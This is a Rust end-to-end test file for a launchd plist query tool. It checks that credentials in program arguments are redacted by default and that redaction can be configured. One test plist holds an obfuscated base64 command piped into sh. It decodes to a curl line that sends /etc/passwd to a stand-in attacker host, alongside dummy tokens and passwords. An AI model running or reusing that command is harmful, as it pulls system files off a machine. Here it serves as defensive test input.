//! `launchwatch_launchd.program_arguments` on real plists: credentials are redacted by default
//! (with a count in `arguments_redacted`), the command's shape stays as evidence, and the
//! `[redact]` config section turns it off or tunes it.

use std::path::Path;

use launchwatch_e2e::{json_rows, launchwatch};

const SECRET_JOB: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
  <key>Label</key><string>com.example.sync</string>
  <key>ProgramArguments</key><array>
    <string>/bin/sh</string>
    <string>-c</string>
    <string>echo ZWNobyAiaGVsbG8iIHwgY3VybCAtZCBAL2V0Yy9wYXNzd2QgaHR0cDovL2V2aWwuZXhhbXBsZS8K | base64 -d | sh; curl -H "Authorization: Bearer tok3n" https://sync:hunter2@backup.example.com/up --api-token=abc123</string>
  </array>
  <key>StartInterval</key><integer>600</integer>
</dict></plist>
"#;

const PLAIN_JOB: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
  <key>Label</key><string>com.example.plain</string>
  <key>ProgramArguments</key><array><string>/usr/local/bin/agent</string><string>--verbose</string></array>
</dict></plist>
"#;

fn tree(dir: &Path) -> std::path::PathBuf {
    let root = dir.join("root");
    let daemons = root.join("Library/LaunchDaemons");
    std::fs::create_dir_all(&daemons).unwrap();
    std::fs::write(daemons.join("com.example.sync.plist"), SECRET_JOB).unwrap();
    std::fs::write(daemons.join("com.example.plain.plist"), PLAIN_JOB).unwrap();
    root
}

fn arguments(dir: &Path, root: &Path, config: Option<&str>) -> Vec<(String, Vec<String>, String)> {
    let mut args = vec!["query", "--json", "--root", root.to_str().unwrap()];
    let config_path = dir.join("redact.toml");
    if let Some(text) = config {
        std::fs::write(&config_path, text).unwrap();
        args.extend(["--config", config_path.to_str().unwrap()]);
    }
    args.push("SELECT label, program_arguments, arguments_redacted FROM launchwatch_launchd ORDER BY label");
    json_rows(&launchwatch(&args, dir))
        .into_iter()
        .map(|r| {
            let list: Vec<String> =
                serde_json::from_str(r["program_arguments"].as_str().unwrap()).unwrap();
            (
                r["label"].as_str().unwrap().to_string(),
                list,
                r["arguments_redacted"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn credentials_are_redacted_by_default_and_the_command_stays_visible() {
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path());
    let rows = arguments(dir.path(), &root, None);
    assert_eq!(rows.len(), 2, "{rows:?}");
    let (label, plain, count) = &rows[0];
    assert_eq!(label, "com.example.plain");
    assert_eq!(
        (plain.as_slice(), count.as_str()),
        (
            &["/usr/local/bin/agent".to_string(), "--verbose".into()][..],
            "0"
        )
    );
    let (label, args, count) = &rows[1];
    assert_eq!(label, "com.example.sync");
    assert_eq!(count, "4", "{args:?}");
    let script = &args[2];
    for secret in ["ZWNobyAiaGVsbG8i", "tok3n", "hunter2", "abc123"] {
        assert!(!script.contains(secret), "{secret} leaked: {script}");
    }
    // The evidence: what ran, how, and where to; each secret's length and hash.
    assert!(
        script.starts_with("echo [redacted:base64:len=76:sha256="),
        "{script}"
    );
    assert!(
        script.contains(
            "| base64 -d | sh; curl -H \"Authorization: Bearer [redacted:header:len=5:sha256="
        ),
        "{script}"
    );
    assert!(
        script.contains("https://[redacted:userinfo:len=12:sha256="),
        "{script}"
    );
    assert!(
        script.contains("@backup.example.com/up --api-token=[redacted:flag:len=6:sha256="),
        "{script}"
    );
}

#[test]
fn redaction_is_configurable() {
    let dir = tempfile::tempdir().unwrap();
    let root = tree(dir.path());
    let off = arguments(dir.path(), &root, Some("[redact]\nenabled = false\n"));
    assert_eq!(off[1].2, "0");
    assert!(
        off[1].1[2].contains("https://sync:hunter2@backup.example.com"),
        "{:?}",
        off[1]
    );
    let no_hash = arguments(
        dir.path(),
        &root,
        Some("[redact]\nkeep_hash = false\nmin_secret_length = 100\n"),
    );
    let script = &no_hash[1].1[2];
    assert_eq!(
        no_hash[1].2, "3",
        "the 76-character blob is under the raised threshold: {script}"
    );
    assert!(
        script.contains("ZWNobyAiaGVsbG8i") && script.contains("[redacted:flag:len=6]"),
        "{script}"
    );
    assert!(!script.contains("sha256="), "{script}");
}
